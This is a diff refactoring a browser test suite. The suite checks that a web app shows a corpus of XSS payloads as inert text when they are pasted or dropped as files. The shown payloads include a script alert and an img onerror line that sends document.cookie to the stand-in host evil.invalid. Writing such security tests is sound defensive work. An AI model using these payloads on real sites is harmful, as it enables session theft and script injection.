@@ -1,10 +1,9 @@
 // Hostile text (issue 7): a corpus of XSS payloads, each pasted, dropped as a .txt file and
 // dropped as an .html file, must show as inert text: no element of its own in the view or the
 // card, no script run, no dialog, no request to any other origin; exports stay inert too.
-import { test, before, after } from 'node:test';
+import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { startServer } from './server.mjs';
-import { dropFile, launch, openPage, waitForView } from './helpers.mjs';
+import { dropFile, openPage, waitForView, useBrowser } from './helpers.mjs';
 
 const PAYLOADS = [
   '<script>alert(1)</script>',
@@ -65,20 +64,9 @@ const PAYLOADS = [
   '<img src="x" onerror="fetch(\'http://evil.invalid/\'+document.cookie)">',
 ];
 
-let server;
-let browser;
-let session;
-
-before(async () => {
-  server = await startServer();
-  browser = await launch();
-  session = await openPage(browser, server.url);
-  await session.page.waitForSelector('#view mark.ent', { timeout: 20000 });
-});
-
-after(async () => {
-  await browser?.close();
-  await server?.close();
+const env = useBrowser(async () => {
+  env.session = await openPage(env.browser, env.server.url);
+  await env.session.page.waitForSelector('#view mark.ent', { timeout: 20000 });
 });
 
 /** Elements in the view or card that the page did not make itself. */
@@ -90,10 +78,9 @@ function foreignElements(page) {
     .map((el) => el.outerHTML.slice(0, 80)));
 }
 
-
 test(`${PAYLOADS.length} payloads pasted are shown as the text they are`, async () => {
   assert.ok(PAYLOADS.length >= 50);
-  const { page } = session;
+  const { page } = env.session;
   for (const [i, p] of PAYLOADS.entries()) {
     const text = `Joe Biden said ${p} in Paris on Friday. ${i}`;
     await page.fill('#input', text);
@@ -105,7 +92,7 @@ test(`${PAYLOADS.length} payloads pasted are shown as the text they are`, async 
 });
 
 test('payloads dropped as .txt and .html files stay inert', async () => {
-  const { page } = session;
+  const { page } = env.session;
   for (const [i, p] of PAYLOADS.entries()) {
     const text = `Angela Merkel wrote ${p} on Friday ${i}`;
     await dropFile(page, `x${i}.txt`, 'text/plain', text);
@@ -120,10 +107,10 @@ test('payloads dropped as .txt and .html files stay inert', async () => {
 });
 
 test('nothing ran, nothing was fetched elsewhere', async () => {
-  const { page, errors, requests } = session;
+  const { page, errors, requests } = env.session;
   await page.waitForTimeout(300);
   assert.deepEqual(errors.filter((e) => e.startsWith('dialog') || e.startsWith('pageerror')), []);
-  const origin = new URL(server.url).origin;
+  const origin = new URL(env.server.url).origin;
   assert.deepEqual(requests.filter((u) => !u.startsWith(`${origin}/`)), []);
   assert.equal(await page.evaluate(() => document.cookie), '');
 });
